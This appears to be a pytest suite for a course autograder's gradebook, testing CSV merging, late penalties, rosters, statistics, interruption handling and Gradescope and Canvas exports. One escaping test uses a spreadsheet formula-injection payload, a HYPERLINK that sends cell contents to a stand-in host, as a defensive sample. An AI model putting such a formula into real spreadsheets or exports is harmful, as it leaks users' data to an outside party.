"""The gradebook and the exports: a CSV that grading updates, adjustments, late policy, roster,
statistics, formula escaping, statuses, Ctrl-C, temporary folders, Gradescope and Canvas."""
import csv
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minimixer import coursework
from minimixer.commands.cli import UserError
from minimixer.coursework import gradebook, sandbox

sys.path.insert(0, str(Path(__file__).parent))
from support.coursework_attacks import replace_function  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
SEED = 2468
SANDBOX = os.environ.get("MINIMIXER_TEST_SANDBOX") or ("strong" if sandbox.available()[0] else "weak")


def cw(*args, timeout=180, **kw):
    return subprocess.run([sys.executable, "-m", "minimixer.coursework", *args], capture_output=True, text=True,
                          timeout=timeout, **kw)


@pytest.fixture(scope="module")
def key():
    return {m: (REPO / "minimixer" / f"{m}.py").read_text() for m in ("layers", "optim")}


def hand_in(folder, layers_src=None, optim_src=None, **extra):
    folder.mkdir(parents=True, exist_ok=True)
    if layers_src is not None:
        (folder / "layers.py").write_text(layers_src)
    if optim_src is not None:
        (folder / "optim.py").write_text(optim_src)
    for name, text in extra.items():
        (folder / name.replace("__", ".")).write_text(text)
    return folder


def rows_of(path):
    return {r["student"]: r for r in csv.DictReader(open(path, newline=""))}


def fake(total, status="ok", submitted="2026-03-01T10:00:00Z"):
    points = {e.name: 10 if i < total // 10 else 0 for i, e in enumerate(coursework.EXERCISES)}
    return {"exercises": [{"exercise": n, "points": p} for n, p in points.items()], "total": sum(points.values()),
            "max": 160, "status": status, "submitted": submitted}


# --- the gradebook ---------------------------------------------------------------------------------

def test_csv_updates_the_graded_rows_and_keeps_the_others(key, tmp_path):
    root = tmp_path / "subs"
    for s in ("alice", "bob"):
        hand_in(root / s, key["layers"], key["optim"])
    book = tmp_path / "grades.csv"
    r = cw("grade", "--batch", str(root), "--csv", str(book), "--seed", str(SEED), "--jobs", "2",
           "--sandbox", SANDBOX)
    assert r.returncode == 0, r.stderr
    assert {s: row["total"] for s, row in rows_of(book).items()} == {"alice": "160", "bob": "160"}
    blank = coursework.strip_solutions(key["layers"], "layers")
    hand_in(tmp_path / "again" / "bob", blank, key["optim"])  # bob hands in again: only AdamW is right
    r = cw("grade", str(tmp_path / "again" / "bob"), "--csv", str(book), "--seed", str(SEED), "--sandbox", SANDBOX)
    assert r.returncode == 0, r.stderr
    assert {s: row["total"] for s, row in rows_of(book).items()} == {"alice": "160", "bob": "10"}
    r = cw("grade", str(tmp_path / "again" / "bob"), "--csv", str(book), "--seed", str(SEED), "--student", "carol",
           "--replace", "--sandbox", SANDBOX)
    assert r.returncode == 0, r.stderr
    assert list(rows_of(book)) == ["carol"]


def test_adjustments_are_merged_and_never_written(tmp_path):
    book = tmp_path / "grades.csv"
    adjust = tmp_path / "grades_adjustments.csv"
    adjust.write_text("student,points,reason\nalice,5,regrade of mlp_backward\nalice,-2,style\nzed,3,\n")
    before = adjust.read_bytes()
    report = gradebook.write(str(book), {"alice": fake(100), "bob": fake(50)}, SEED, adjustments=str(adjust))
    rows = rows_of(book)
    assert rows["alice"]["adjustment"] == "3" and rows["alice"]["total"] == "103" and rows["bob"]["total"] == "50"
    assert report["unmatched_adjustments"] == ["zed"]
    gradebook.write(str(book), {"bob": fake(60)}, SEED, adjustments=str(adjust))  # a rerun for bob
    rows = rows_of(book)
    assert rows["alice"]["total"] == "103" and rows["bob"]["total"] == "60" and adjust.read_bytes() == before
    adjust.write_text("student,points\nalice,lots\n")
    with pytest.raises(UserError, match="line 2: the points 'lots' are not a number"):
        gradebook.write(str(book), {}, SEED, adjustments=str(adjust))


def test_late_policy_from_timestamps_and_file_times(tmp_path):
    deadline = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc)
    stamps = tmp_path / "times.csv"
    stamps.write_text("student,time\ncarol,2026-03-03T13:00:00+01:00\n")  # 12:00 UTC: 2 days late exactly
    policy = gradebook.LatePolicy(deadline, per_day=10, grace_days=1, timestamps=gradebook.read_timestamps(stamps))
    results = {"alice": fake(100, submitted="2026-03-01T11:59:59Z"),  # on time
               "bob": fake(100, submitted="2026-03-01T12:00:01Z"),  # 1 started day: free (grace)
               "carol": fake(100, submitted="2026-02-01T00:00:00Z"),  # the file overrides: 2 days
               "dan": fake(100, submitted="2026-03-05T12:00:00Z"),  # 4 days: 3 charged
               "eve": fake(100, submitted="2026-04-30T12:00:00Z")}  # 60 days: capped at the score
    gradebook.write(str(tmp_path / "g.csv"), results, SEED, policy=policy)
    rows = rows_of(tmp_path / "g.csv")
    got = {s: (r["days_late"], r["late_penalty"], r["total"]) for s, r in rows.items()}
    assert got == {"alice": ("0", "0", "100"), "bob": ("1", "0", "100"), "carol": ("2", "10", "90"),
                   "dan": ("4", "30", "70"), "eve": ("60", "100", "0")}, got


def test_roster_lists_missing_and_unknown_students(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("name,student\nAlice A,alice\nBob B,bob\n")
    assert gradebook.read_roster(roster) == ["alice", "bob"]
    report = gradebook.write(str(tmp_path / "g.csv"), {"alice": fake(160), "mallory": fake(0)}, SEED,
                             roster=gradebook.read_roster(roster))
    assert report["missing"] == ["bob"] and report["unknown"] == ["mallory"]
    assert rows_of(tmp_path / "g.csv")["bob"]["status"] == "no submission"


def test_cells_are_escaped_against_formula_injection(tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    book = tmp_path / "g.csv"
    gradebook.write(str(book), {evil: fake(10), "+1": fake(0), "@sum": fake(0), "-x": fake(0), "ok": fake(20)},
                    SEED, canvas=str(tmp_path / "canvas.csv"))
    text = book.read_text()
    for cell in (evil, "+1", "@sum", "-x"):
        assert f"'{cell}" in text.replace('""', '"'), text
    assert not any(line.startswith(("=", "+", "@", "-")) for line in text.splitlines())
    assert set(gradebook.read(str(book))) == {evil, "+1", "@sum", "-x", "ok"}  # read back unescaped
    gradebook.write(str(book), {"ok": fake(30)}, SEED)  # kept rows are not escaped twice
    assert text.count("''") == 0 and book.read_text().count("''") == 0
    canvas = list(csv.reader(open(tmp_path / "canvas.csv")))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "MLP-Mixer coursework"]
    assert canvas[1] == ["Points Possible", "", "", "", "", "160"]
    assert ["'" + evil, "", "", "'" + evil, "", "10"] in canvas and ["ok", "", "", "ok", "", "20"] in canvas


def test_statistics_and_histogram(tmp_path, monkeypatch):
    book = tmp_path / "g.csv"
    report = gradebook.write(str(book), {"a": fake(160), "b": fake(0), "c": fake(20)}, SEED)
    lines = gradebook.write_statistics(str(book), report["rows"])
    stats = {r["exercise"]: r for r in csv.DictReader(open(tmp_path / "g_stats.csv"))}
    assert stats["linear_forward"] == {"exercise": "linear_forward", "graded": "3", "mean": "6.67", "median": "10",
                                       "full": "2", "zero": "1"}
    assert stats["total"]["mean"] == "60" and stats["total"]["full"] == "1"
    png = tmp_path / "g_histogram.png"
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and any("histogram" in line for line in lines)
    png.unlink()
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    lines = gradebook.write_statistics(str(book), report["rows"])
    assert lines[-1] == "no histogram: matplotlib is not installed (pip install matplotlib)" and not png.exists()


# --- statuses -------------------------------------------------------------------------------------

def test_statuses_say_what_went_wrong(key, tmp_path):
    blank = coursework.strip_solutions(key["layers"], "layers")
    syntax = key["layers"].replace("db = _sum_leading(dout)  # (O,)", "db = _sum_leading(dout  # (O,)", 1)
    hang = replace_function(key["layers"], "gelu_forward", "def gelu_forward(x, form='erf'):\n    while True:\n"
                                                           "        pass\n")
    crash = replace_function(key["layers"], "gelu_forward", "def gelu_forward(x, form='erf'):\n    import os\n"
                                                            "    os._exit(1)\n")
    cases = {"syntax error": hand_in(tmp_path / "a", syntax, key["optim"]),
             "missing optim.py": hand_in(tmp_path / "b", key["layers"]),
             "misnamed Layers.py": hand_in(tmp_path / "c", None, key["optim"], Layers__py=key["layers"]),
             "import error": hand_in(tmp_path / "d", blank + "\nimport no_such_module\n", key["optim"]),
             "timeout": hand_in(tmp_path / "e", hang, key["optim"]),
             "crashed": hand_in(tmp_path / "f", crash, key["optim"]),
             "no files": hand_in(tmp_path / "g", None, None, notes__txt="forgot")}
    for status, folder in cases.items():
        result = coursework.grade(str(folder), SEED, timeout=2, sandbox=SANDBOX)
        assert result["status"] == status, (status, result["status"])
    result = coursework.grade(str(cases["misnamed Layers.py"]), SEED, timeout=2, sandbox=SANDBOX)
    assert "found Layers.py: the name must be exactly layers.py" in result["exercises"][0]["message"]


# --- Ctrl-C, SIGTERM and temporary folders ---------------------------------------------------------------

def _processes_mentioning(text):
    found = []
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and text.encode() in (p / "cmdline").read_bytes():
                found.append(p.name)
        except OSError:
            pass
    return found


def _grader_dir(pid):
    return Path(tempfile.gettempdir()) / "minimixer-grader" / str(pid)


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_batch_writes_what_was_graded_marked_partial(key, tmp_path, sig):
    root = tmp_path / "subs"
    hand_in(root / "a_first", key["layers"], key["optim"])
    hang = replace_function(key["layers"], "linear_forward", "def linear_forward(x, w, b):\n    while True:\n"
                                                              "        pass\n")
    for s in ("b", "c", "d"):
        hand_in(root / s, hang, key["optim"])
    book = tmp_path / "grades.csv"
    book.write_text("student,total\nd,77\n")  # graded before: kept
    proc = subprocess.Popen([sys.executable, "-m", "minimixer.coursework", "grade", "--batch", str(root), "--csv",
                             str(book), "--seed", str(SEED), "--jobs", "1", "--timeout", "60", "--sandbox", SANDBOX],
                            stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    log = []
    deadline = time.monotonic() + 120
    for line in proc.stderr:  # wait until the first student is graded and the second is running
        log.append(line)
        if line.startswith("a_first:"):
            break
        assert time.monotonic() < deadline, log
    time.sleep(1.0)
    start = time.monotonic()
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=30)
    assert time.monotonic() - start < 10
    assert proc.returncode == 130, (out, err)
    assert "interrupted: 1 of 4 graded" in err, err
    rows = rows_of(book)
    assert rows["a_first"]["total"] == "160" and rows["a_first"]["status"] == "ok"
    assert rows["b"]["status"] == rows["c"]["status"] == "not graded (interrupted)"
    assert rows["d"]["total"] == "77"
    assert not _grader_dir(proc.pid).exists()


def test_a_killed_graders_folders_are_removed_by_the_next(key, tmp_path):
    hang = replace_function(key["layers"], "linear_forward", "def linear_forward(x, w, b):\n    while True:\n"
                                                              "        pass\n")
    hand_in(tmp_path / "s", hang, key["optim"])
    proc = subprocess.Popen([sys.executable, "-m", "minimixer.coursework", "grade", str(tmp_path / "s"), "--seed",
                             str(SEED), "--timeout", "60", "--sandbox", SANDBOX],
                            stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    folder = _grader_dir(proc.pid)
    deadline = time.monotonic() + 60
    while not any(p.name.startswith("submission-") for p in (folder.iterdir() if folder.exists() else [])):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    proc.kill()
    proc.wait()
    assert folder.exists()
    deadline = time.monotonic() + 10  # its child dies with it (--die-with-parent, PR_SET_PDEATHSIG)
    while _processes_mentioning(str(folder)):
        assert time.monotonic() < deadline, _processes_mentioning(str(folder))
        time.sleep(0.1)
    r = subprocess.run([sys.executable, "-c", "from minimixer.coursework.grade import run_dir; print(run_dir())"],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert not folder.exists()


def test_seed_zero_is_graded_with_a_warning(key, tmp_path):
    r = cw("grade", str(hand_in(tmp_path / "s", key["layers"], key["optim"])), "--seed", "0", "--sandbox", SANDBOX)
    assert r.returncode == 0 and "160/160" in r.stdout
    assert "warning: seed 0 draws the self-check's public cases" in r.stderr


# --- exports --------------------------------------------------------------------------------------

def test_results_json_hides_the_hidden_cases_details_until_the_due_date(key, tmp_path):
    text = key["layers"].replace("    dx *= rstd  # (..., D)\n", "")
    out = tmp_path / "results.json"
    r = cw("grade", str(hand_in(tmp_path / "s", text, key["optim"])), "--seed", str(SEED), "--results-json", str(out),
           "--sandbox", SANDBOX)
    assert r.returncode == 0, r.stderr
    results = json.loads(out.read_text())
    assert results["score"] == 156
    tests = {t["name"]: t for t in results["tests"]}
    visible = [t for t in results["tests"] if t["visibility"] == "visible"]
    assert len(visible) == 16 and sum(t["score"] for t in visible) == 156 and sum(t["max_score"] for t in visible) == 160
    lb = tests["A1 layernorm_backward"]
    assert lb["score"] == 6 and "dx: 0/4 wrong on a hidden case" in lb["output"] and "expected" not in lb["output"]
    details = tests["A1 layernorm_backward: details"]
    assert details["visibility"] == "after_due_date" and details["max_score"] == 0
    assert "max rel error" in details["output"] and "expected" in details["output"]
    assert all(set(t) == {"name", "score", "max_score", "output", "visibility"} for t in results["tests"])


def test_gradescope_autograder_runs_end_to_end(key, tmp_path):
    """Build the zip, unpack it as Gradescope does into a fake /autograder, and run it."""
    zpath = tmp_path / "autograder.zip"
    r = cw("gradescope", "--out", str(zpath), "--seed", str(SEED), "--timeout", "30", "--sandbox", SANDBOX)
    assert r.returncode == 0, r.stderr
    root = tmp_path / "autograder"
    with zipfile.ZipFile(zpath) as z:
        names = z.namelist()
        assert {"setup.sh", "run_autograder", "minimixer/layers.py", "minimixer/coursework/grade.py"} <= set(names)
        assert z.getinfo("run_autograder").external_attr >> 16 & 0o111
        z.extractall(root / "source")
    assert sum(zipfile.ZipFile(zpath).getinfo(n).file_size for n in names) < 5 << 20
    run = root / "run_autograder"
    run.write_bytes((root / "source" / "run_autograder").read_bytes())
    run.chmod(0o755)
    hand_in(root / "submission", key["layers"], key["optim"])
    env = {"AUTOGRADER_ROOT": str(root), "AUTOGRADER_PYTHON": sys.executable, "PATH": os.environ["PATH"]}
    r = subprocess.run([str(run)], capture_output=True, text=True, env=env, timeout=300)
    assert r.returncode == 0, r.stderr
    results = json.loads((root / "results" / "results.json").read_text())
    assert results["score"] == 160 and len(results["tests"]) == 16, results
    # a submission that fails to grade still gets a results.json that says so
    (root / "results" / "results.json").unlink()
    env["AUTOGRADER_PYTHON"] = "/nonexistent/python"
    subprocess.run([str(run)], capture_output=True, text=True, env=env, timeout=60)
    failed = json.loads((root / "results" / "results.json").read_text())
    assert failed["score"] == 0 and "the autograder failed" in failed["output"]


# --- fuzzing what comes from outside: student ids, the instructor's CSV files -----------------------

ids = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1,
              max_size=12).filter(lambda s: s.strip() == s and s.strip())


@settings(max_examples=40, deadline=None)
@given(st.lists(ids, min_size=1, max_size=5, unique=True))
def test_any_student_id_round_trips_and_no_cell_starts_a_formula(tmp_path_factory, students):
    book = tmp_path_factory.mktemp("fuzz") / "g.csv"
    gradebook.write(str(book), {s: fake(10) for s in students}, SEED, canvas=str(book) + ".canvas.csv")
    assert set(gradebook.read(str(book))) == set(students)
    gradebook.write(str(book), {}, SEED)  # rewritten from what was read: the same ids again
    assert set(gradebook.read(str(book))) == set(students)
    for path in (book, Path(str(book) + ".canvas.csv")):
        for row in csv.reader(open(path, newline="", encoding="utf-8")):
            assert not any(cell.startswith(gradebook._TRIGGERS) and not cell.lstrip("-").replace(".", "").isdigit()
                           for cell in row), row


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=200))
def test_the_instructors_files_parse_or_give_one_clear_error(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("fuzz") / "f.csv"
    path.write_text(text, encoding="utf-8")
    for read in (gradebook.read_adjustments, gradebook.read_roster, gradebook.read_timestamps):
        try:
            read(str(path))
        except UserError as e:
            assert "\n" not in str(e).strip() or str(path) in str(e)
